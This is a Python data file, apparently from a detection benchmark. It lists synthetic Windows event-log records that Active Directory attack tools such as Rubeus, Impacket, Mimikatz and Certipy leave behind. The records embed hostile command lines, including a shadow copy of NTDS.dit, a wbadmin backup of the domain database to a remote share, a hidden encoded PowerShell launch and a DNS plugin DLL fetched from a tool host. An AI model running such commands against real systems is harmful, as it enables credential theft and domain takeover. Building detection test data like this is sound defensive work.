"""Forms of attack as tools of the field leave them in logs.

Long because each form is a row of one table.
"""

from benchmarks.quality.form_hosts import FORMS as TOLD_BY_HOSTS
from benchmarks.quality.form_records import (
    BASE,
    CA,
    CHANGE_RIGHTS,
    DC,
    DESK,
    DNS_AUDIT,
    DNS_SERVICE,
    DOMAIN,
    EVERYTHING,
    FEDERATION,
    FILES,
    HERE,
    MANAGER,
    PEOPLE,
    SAM,
    STS,
    TOOL,
    Form,
    Record,
    by,
    changed,
    dns_record,
    engine,
    hosted,
    installed,
    issued,
    logon,
    made,
    operational,
    process,
    proof,
    read,
    refused,
    replaced,
    searched,
    service,
    share,
    task,
    tgt,
    to,
)

FORMS: tuple[Form, ...] = (
    Form("Rubeus", "asktgt with an RC4 key", (tgt("alice", etype="0x17"),)),
    Form("Rubeus", "asreproast", tuple(tgt(one, etype="0x17", proof="0", after=n) for n, one in enumerate(PEOPLE[:4]))),
    Form("Rubeus", "kerberoast", tuple(service(f"svc-{n}", after=n / 5, TicketOptions="0x40810010") for n in range(6))),
    Form("Rubeus", "kerberoast of one account", (tgt("mallory"), service("svc-sql", after=1))),
    Form(
        "Rubeus",
        "s4u to a controller",
        (
            service("mallory$", "mallory$", etype="0x12"),
            service("DC1$", "mallory$", etype="0x12", after=1, TransmittedServices="mallory$@CORP.TEST"),
        ),
    ),
    Form(
        "Rubeus",
        "dump, started without rights",
        (
            Record(
                4673,
                {
                    **by(),
                    "ObjectServer": "NT Local Security Authority / Authentication Service",
                    "Service": "LsaRegisterLogonProcess()",
                    "PrivilegeList": "SeTcbPrivilege",
                    "ProcessId": "0x77",
                    "ProcessName": r"C:\Users\mallory\r.exe",
                },
                DESK,
                failed=True,
            ),
        ),
    ),
    Form("kerbrute", "userenum", tuple(tgt(one, etype="0xffffffff", status="0x6", after=n / 9) for n, one in enumerate(PEOPLE))),
    Form("kerbrute", "passwordspray", tuple(proof(one, after=n / 9) for n, one in enumerate(PEOPLE))),
    Form("DomainPasswordSpray", "one password over LDAP", tuple(refused(one, after=n) for n, one in enumerate(PEOPLE))),
    Form(
        "netexec",
        "spray over SMB as a server logs it",
        tuple(refused(one, after=n, computer=FILES) for n, one in enumerate(PEOPLE)),
    ),
    Form(
        "o365spray",
        "spray at the federation service",
        tuple(
            Record(
                1203,
                {
                    "param1": "1",
                    "param2": f"<AuditBase><UserId>CORP\\{one}</UserId><IpAddress>203.0.113.9</IpAddress></AuditBase>",
                },
                STS,
                FEDERATION,
                n,
                True,
            )
            for n, one in enumerate(PEOPLE)
        ),
    ),
    Form(
        "Impacket", "secretsdump, replication", (logon(), read("19195a5b-6da0-11d0-afd3-00c04fd930c9", *CHANGE_RIGHTS, after=1))
    ),
    Form(
        "Impacket",
        "secretsdump -use-vss",
        (
            logon(),
            installed(
                "BTOBTO", r"%COMSPEC% /Q /c echo vssadmin create shadow /For=C: ^> %SYSTEMROOT%\Temp\__output > x.bat", DC, 1
            ),
        ),
    ),
    Form(
        "Impacket",
        "secretsdump of a server",
        (
            logon(computer=FILES),
            share("winreg", after=1),
            share(r"System32\rWxbTzQk.tmp", "ADMIN$", after=2),
            share(r"System32\kLmPqRsT.tmp", "ADMIN$", after=3),
        ),
    ),
    Form("Impacket", "psexec", (logon(computer=FILES), installed("qRtY", r"%systemroot%\duGuiwoK.exe", after=1))),
    Form(
        "Impacket",
        "wmiexec",
        (logon(computer=FILES), hosted(r"wbem\WmiPrvSE.exe", r"cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__1764000001.5 2>&1")),
    ),
    Form("Impacket", "atexec", (logon(computer=FILES), task(r"\hTfKqzPw", r"/C whoami > %windir%\Temp\hTfKqzPw.tmp 2>&1"))),
    Form(
        "Impacket",
        "dcomexec",
        (
            logon(computer=FILES),
            process(
                r"C:\Windows\System32\mmc.exe",
                r"C:\Windows\system32\mmc.exe -Embedding",
                r"C:\Windows\System32\svchost.exe",
                FILES,
                "SYSTEM",
            )._replace(after=0.5),
            hosted("mmc.exe", r"cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__17640 2>&1"),
        ),
    ),
    Form(
        "Impacket", "addcomputer", (logon(), Record(4741, {**to("EVILPC$", 1666), **by(), "SamAccountName": "EVILPC$"}, after=1))
    ),
    Form(
        "noPac",
        "renamed like a controller",
        (
            Record(4741, {**to("EVILPC$", 1666), **by()}),
            Record(
                4781, {"OldTargetUserName": "EVILPC$", "NewTargetUserName": "DC1", "TargetDomainName": "CORP", **by()}, after=1
            ),
            tgt("DC1", after=2),
            service("DC1$", "DC1", after=3, etype="0x12"),
        ),
    ),
    Form(
        "Impacket",
        "rbcd",
        (
            logon(),
            changed(
                "CN=FILES,OU=Servers",
                "msDS-AllowedToActOnBehalfOfOtherIdentity",
                "O:BAD:(A;;GA;;;S-1-5-21-1004-2005-3006-1666)",
                "computer",
                1,
            ),
        ),
    ),
    Form(
        "pywhisker",
        "key on somebody's account",
        (logon(), changed("CN=alice,OU=Staff", "msDS-KeyCredentialLink", "B:828:0002:CN=alice", after=1)),
    ),
    Form(
        "PKINITtools",
        "sign-in with such a key",
        (tgt("alice", proof="16", CertIssuerName="alice", CertSerialNumber="01", CertThumbprint="AA"),),
    ),
    Form(
        "targetedKerberoast",
        "name added, ticket, name removed",
        (changed("CN=alice,OU=Staff", "servicePrincipalName", "cifs/kq3x"), service("alice", after=1, etype="0x17")),
    ),
    Form("bloodyAD", "password of somebody set", (logon(), Record(4724, {**to("alice"), **by()}, after=1))),
    Form("bloodyAD", "genericAll on somebody", replaced("CN=alice,OU=Staff", "O:DAG:DAD:AI(A;;RPLCLORC;;;AU)", EVERYTHING)),
    Form(
        "bloodyAD",
        "member of Domain Admins",
        (
            logon(),
            Record(
                4728,
                {"MemberName": f"CN=mallory,OU=Staff,{BASE}", "MemberSid": f"{DOMAIN}-1666", **to("Domain Admins", 512), **by()},
                after=1,
            ),
        ),
    ),
    Form(
        "bloodyAD",
        "no pre-authentication",
        (Record(4738, {**to("alice"), **by(), "OldUacValue": "0x10", "NewUacValue": "0x10010", "UserAccountControl": "%%2096"}),),
    ),
    Form(
        "dacledit",
        "rights of replication on the domain",
        (
            logon(),
            changed(
                "DC=x",
                "nTSecurityDescriptor",
                f"O:BAD:(OA;;CR;{CHANGE_RIGHTS[0]};;{DOMAIN}-1666)(OA;;CR;{CHANGE_RIGHTS[1]};;{DOMAIN}-1666)",
                "domainDNS",
                1,
            ),
        ),
    ),
    Form(
        "owneredit",
        "owner of the administrators' group",
        replaced("CN=Domain Admins,CN=Users", "O:DAG:DAD:(A;;RPWP;;;DA)", f"O:{DOMAIN}-1666G:DAD:(A;;RPWP;;;DA)", "group"),
    ),
    Form(
        "dsacls",
        "rights on AdminSDHolder",
        (changed("CN=AdminSDHolder,CN=System", "nTSecurityDescriptor", EVERYTHING, "container"),),
    ),
    Form("dnstool", "record for everything", (made(f"DC=*,DC=corp.test,CN=MicrosoftDNS,DC=DomainDnsZones,{BASE}", "dnsNode"),)),
    Form(
        "adidnsdump",
        "all records over LDAP",
        (
            searched(
                "(objectClass=*)", "dnsRecord,dNSTombstoned,name", base=f"DC=corp.test,CN=MicrosoftDNS,DC=DomainDnsZones,{BASE}"
            ),
        ),
    ),
    Form(
        "Coercer",
        "every pipe that coerces",
        (
            logon(computer=DC),
            *(
                share(pipe, computer=DC, after=n)
                for n, pipe in enumerate(("efsrpc", "lsarpc", "netdfs", "spoolss", "FssagentRpc", "eventlog"))
            ),
        ),
    ),
    Form(
        "krbrelayx",
        "a service name onto a computer",
        (changed("CN=EVILPC,CN=Computers", "servicePrincipalName", "HOST/attacker.corp.test", "computer"),),
    ),
    Form(
        "gMSADumper",
        "password of a managed account",
        (read("7b8b558a-93a5-4af7-adca-c017e67f1057", "e362ed86-b728-0842-b27d-2dea7a9df218", mask="0x10"),),
    ),
    Form(
        "LAPSToolkit",
        "all passwords of local administrators",
        (searched("(&(objectCategory=computer)(ms-Mcs-AdmPwd=*))", "ms-Mcs-AdmPwd,name"),),
    ),
    Form(
        "ntdsutil",
        "installation from media",
        (process(r"C:\Windows\System32\ntdsutil.exe", r'ntdsutil "ac i ntds" "ifm" "create full C:\temp\x" q q'),),
    ),
    Form(
        "wbadmin",
        "backup of the database",
        (
            process(
                r"C:\Windows\System32\wbadmin.exe",
                r"wbadmin start backup -quiet -backuptarget:\\10.0.0.66\s -include:c:\windows\ntds",
            ),
        ),
    ),
    Form(
        "vssadmin",
        "copy out of a shadow",
        (
            process(
                r"C:\Windows\System32\cmd.exe",
                r"cmd /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\NTDS\NTDS.dit C:\temp\n.dit",
            ),
        ),
    ),
    Form("SharpDPAPI", "backup key of the domain", (share("protected_storage", computer=DC),)),
    Form("ADExplorer", "snapshot", (searched("(objectGUID=*)", "[all]", visited=4000),)),
    Form(
        "ldeep", "everybody with a service name", (searched("(&(objectClass=user)(servicePrincipalName=*))", "sAMAccountName"),)
    ),
    Form(
        "windapsearch",
        "privileged users",
        (
            searched(
                f"(&(objectClass=user)(memberOf:1.2.840.113556.1.4.1941:=CN=Domain Admins,CN=Users,{BASE}))", "sAMAccountName"
            ),
        ),
    ),
    Form(
        "Metasploit",
        "psexec with PowerShell",
        (installed("kPzQwLmN", "%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -e " + "QUJD" * 20),),
    ),
    Form(
        "Cobalt Strike", "jump psexec", (logon(computer=FILES), installed("3f2a9c1", r"\\127.0.0.1\ADMIN$\3f2a9c1.exe", after=1))
    ),
    Form("Sliver", "psexec", (logon(computer=FILES), installed("Sliver", r"C:\Windows\Temp\kQzXwPlM.exe", after=1))),
    Form("Responder", "a sign-in passed on", (logon("FILES$", TOOL, after=1, WorkstationName="FILES"),)),
    Form(
        "Certipy",
        "another's name in a request (ESC1)",
        (issued("mallory", Attributes="CertificateTemplate:Vuln\nSAN:upn=administrator@corp.test"),),
    ),
    Form(
        "Certipy",
        "template made vulnerable (ESC4)",
        (
            changed(
                "CN=User,CN=Certificate Templates,CN=Public Key Services,CN=Services,CN=Configuration",
                "msPKI-Certificate-Name-Flag",
                "1",
                "pKICertificateTemplate",
            ),
        ),
    ),
    Form(
        "Certipy",
        "name of somebody else taken (ESC9)",
        (Record(4738, {**to("bob"), **by(), "UserPrincipalName": "administrator", "SamAccountName": "-"}),),
    ),
    Form("Certipy", "an officer added (ESC7)", (Record(4882, {"SecuritySettings": "Allow(0x3)\tCORP\\mallory", **by()}, CA),)),
    Form("Certipy", "the authority backed up", (Record(4876, {"BackupType": "1", **by()}, CA),)),
    Form(
        "Zerologon",
        "password of a controller by nobody",
        (
            Record(
                4742,
                {
                    **to("DC1$", 1000),
                    "SubjectUserSid": "S-1-5-7",
                    "SubjectUserName": "ANONYMOUS LOGON",
                    "SubjectDomainName": "NT AUTHORITY",
                    "SubjectLogonId": "0x3e6",
                    "PasswordLastSet": "11/24/2025 4:00:00 PM",
                },
            ),
        ),
    ),
    Form(
        "Mimikatz",
        "DCShadow",
        (
            Record(
                4742,
                {
                    **to("WS9$", 1109),
                    **by(),
                    "ServicePrincipalNames": "\n\t\tGC/ws9.corp.test/corp.test\n\t\t"
                    "E3514235-4B06-11D1-AB04-00C04FC2DCD2/11111111-2222-3333-4444-555555555555/corp.test",
                },
            ),
        ),
    ),
    Form(
        "Mimikatz",
        "driver",
        (
            Record(
                7045,
                {
                    "ServiceName": "mimidrv",
                    "ImagePath": r"C:\Users\mallory\mimidrv.sys",
                    "ServiceType": "kernel mode driver",
                    "StartType": "demand start",
                    "AccountName": "",
                },
                DC,
                MANAGER,
            ),
        ),
    ),
    Form(
        "Mimikatz",
        "golden ticket of nobody",
        (service("DC1$", "ghost", after=1, etype="0x12"), logon("ghost", package="Kerberos", after=2)),
    ),
    Form(
        "Mimikatz",
        "security package into LSA",
        (Record(4622, {"SecurityPackageName": r"C:\Windows\system32\mimilib.dll : mimilib"}),),
    ),
    Form("password filter", "loaded by LSA", (Record(4614, {"NotificationPackageName": "evilfilter"}),)),
    Form(
        "SharpGPOAbuse",
        "a task in a policy",
        (
            changed(
                "CN={6AC1786C-016F-11D2-945F-00C04fB984F9},CN=Policies,CN=System",
                "gPCMachineExtensionNames",
                "[{AADCED64-746C-4633-A97C-D61349046527}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]",
                "groupPolicyContainer",
            ),
        ),
    ),
    Form(
        "secedit",
        "lockout switched off",
        (
            Record(
                4739,
                {
                    "DomainPolicyChanged": "Lockout Policy",
                    "DomainName": "CORP",
                    "DomainSid": DOMAIN,
                    **by(),
                    "LockoutThreshold": "0",
                },
            ),
        ),
    ),
    Form(
        "PowerView",
        "who may act for others, given",
        (Record(4704, {**by(), "TargetSid": f"{DOMAIN}-1666", "PrivilegeList": "SeEnableDelegationPrivilege"}),),
    ),
    Form(
        "netdom",
        "a trust",
        (
            Record(
                4706,
                {
                    "DomainName": "evil.test",
                    "DomainSid": "S-1-5-21-6-6-6",
                    **by(),
                    "TdoType": "2",
                    "TdoDirection": "3",
                    "TdoAttributes": "8",
                    "SidFilteringEnabled": "%%1796",
                },
            ),
        ),
    ),
    Form("DSInternals", "restore mode password", (Record(4794, {**by(), "Workstation": "DC1", "Status": "0x0"}),)),
    Form("wevtutil", "log cleared", (Record(1102, by(), DC, ("Microsoft-Windows-Eventlog", "Security")),)),
    Form(
        "auditpol",
        "auditing of logons switched off",
        (
            Record(
                4719,
                {
                    **by(),
                    "CategoryId": "%%8273",
                    "SubcategoryId": "%%12544",
                    "SubcategoryGuid": "{0CCE9215-69AE-11D9-BED3-505054503030}",
                    "AuditPolicyChanges": "%%8448",
                },
            ),
        ),
    ),
    Form("noPac", "a controller's name, refused", (Record(16991, {"param1": "DC1", "param2": "DC1$"}, DC, SAM),)),
    Form(
        "Powermad",
        "the quota for computers used",
        (Record(4673, {**by(), "Service": "-", "PrivilegeList": "SeMachineAccountPrivilege"}),),
    ),
    Form(
        "enum4linux",
        "pipe of LSA without an account",
        (
            share("lsarpc", computer=DC)._replace(
                fields=share("lsarpc").fields | {"SubjectUserSid": "S-1-5-7", "SubjectUserName": "ANONYMOUS LOGON"}
            ),
        ),
    ),
    Form("dnscmd", "a record for every name", (dns_record("*.corp.test"),)),
    Form("Powermad", "wpad by dynamic update", (dns_record("wpad.corp.test", 519, SourceIP=TOOL),)),
    Form(
        "dnscmd",
        "a library for the DNS server",
        (
            Record(541, {"Setting": "serverlevelplugindll", "Scope": ".", "NewValue": rf"\\{TOOL}\s\x.dll"}, DC, DNS_AUDIT),
            Record(770, {"param1": rf"\\{TOOL}\s\x.dll"}, DC, DNS_SERVICE, 60),
        ),
    ),
    Form(
        "ntdsutil",
        "media, told by the database engine alone",
        (engine(325, r"C:\t\Active Directory\ntds.dit"), engine(327, r"C:\t\Active Directory\ntds.dit", 3)),
    ),
    Form("ngrok", "remote desktop", (logon("alice", "127.0.0.1", "Negotiate", FILES, LogonType="10"),)),
    Form(
        "ngrok",
        "remote desktop, told by the session manager",
        (
            operational(
                21, "TerminalServices-LocalSessionManager", {"User": r"CORP\alice", "SessionID": "2", "Address": "::%16777216"}
            ),
        ),
    ),
    Form(
        "crowbar",
        "passwords at remote desktop",
        tuple(operational(140, "RemoteDesktopServices-RdpCoreTS", {"IPString": TOOL}, after=one / 2) for one in range(40)),
    ),
    Form(
        "atexec",
        "a task, told by the scheduler alone",
        (
            operational(106, "TaskScheduler", {"TaskName": r"\hTfKqzPw", "UserContext": r"CORP\mallory"}),
            operational(141, "TaskScheduler", {"TaskName": r"\hTfKqzPw", "UserName": r"CORP\mallory"}, after=2),
        ),
    ),
    Form(
        "PrintNightmare",
        "a driver, told by the spooler",
        (
            operational(
                316,
                "PrintService",
                {
                    "Param1": "1234",
                    "Param2": "Windows x64",
                    "Param3": "Version-3",
                    "Param4": "UNIDRV.DLL, kernelbase.dll, evil.dll",
                },
            ),
        ),
    ),
    Form(
        "sc",
        "the service of the logs switched off",
        (
            Record(
                7040,
                {"param1": "Windows Event Log", "param2": "auto start", "param3": "disabled", "param4": "EventLog"},
                DC,
                MANAGER,
            ),
        ),
    ),
    *TOLD_BY_HOSTS,
    Form("explorer", "a share opened", (share("", "Public"),), ordinary=True),
    Form("mstsc", "remote desktop from a desk", (logon("alice", HERE, "Negotiate", FILES, LogonType="10"),), ordinary=True),
)
